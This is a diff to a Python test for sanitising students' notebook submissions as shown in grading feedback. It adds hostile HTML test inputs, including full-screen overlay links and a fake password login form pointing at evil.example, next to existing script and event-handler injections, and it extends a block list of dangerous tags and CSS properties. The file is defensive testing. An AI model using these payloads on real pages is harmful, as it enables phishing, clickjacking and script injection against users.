@@ -1,5 +1,6 @@
 """What students wrote, as feedback and formgrader show it: it runs nothing, loads nothing, and honest pages look as they did."""
 
+import re
 import shutil
 from html.parser import HTMLParser
 from pathlib import Path
@@ -36,6 +37,11 @@ WRITTEN = {
     "formula-in-attribute": '![$x$](attachment:p "$\\text{onerror=evil() x}$") <b title="$\\text{&quot; onclick=evil()}$">x</b>',
     "code": '```html" onclick="evil()\n<script>evil()</script>\n```\n\n`<script>evil()</script>`',
     "mermaid": "```mermaid\n</pre><script>evil()</script>\n```",
+    "overlay": '<a href="https://evil.example" style="position:fixed;inset:0;z-index:99;display:block;width:9999px;height:9999px">x</a>'
+    '<div style="float:left;font-size:9999px;line-height:99;margin:-9999px;transform:scale(99)">x</div>',
+    "overlay-by-class": '<a class="jp-OutputArea-promptOverlay modal fixed-top" href="https://evil.example">x</a>',
+    "large-link": f'<a href="https://evil.example"><img width="99999" height="99999" src="data:image/png;base64,{PIXEL}"></a>',
+    "login": '<form><input type="password"><button formaction="https://evil.example">Log in</button></form><label><textarea>x</textarea></label>',
     "blank-lines": "<pre>\n\n<script>evil()</script>\n\n</pre>\n\n<!--\n\n--><script>evil()</script>",
 }
 SHOWN = {
@@ -72,14 +78,18 @@ class Elements(HTMLParser):
 
     def harm(self):
         """What runs something, or loads something from elsewhere."""
-        forbidden = {"script", "iframe", "object", "embed", "base", "form", "style", "link"}
+        forbidden = {"script", "iframe", "object", "embed", "base", "form", "style", "link", "input", "button", "textarea"}
         found = [tag for tag in self.tags if tag in forbidden]
         for tag, attributes in self.elements:
             for name, value in attributes.items():
                 value = (value or "").strip().lower()
                 loads = name not in ("href", "alt", "title") and ELSEWHERE in value and not value.startswith("data:image/")
                 script = name == "href" and value.startswith(("javascript:", "data:"))
-                if name.startswith("on") or loads or script:
+                taken = re.findall(
+                    r"(?<![\w-])(position|z-index|inset|display|float|width|height|margin|transform|font-size)\s*:", value
+                )
+                covers = name == "style" and taken or name in ("width", "height") and tag == "img" and len(value) > 4
+                if name.startswith("on") or loads or script or covers or name == "class" and "overlay" in value:
                     found.append((tag, name, value))
         return found
 
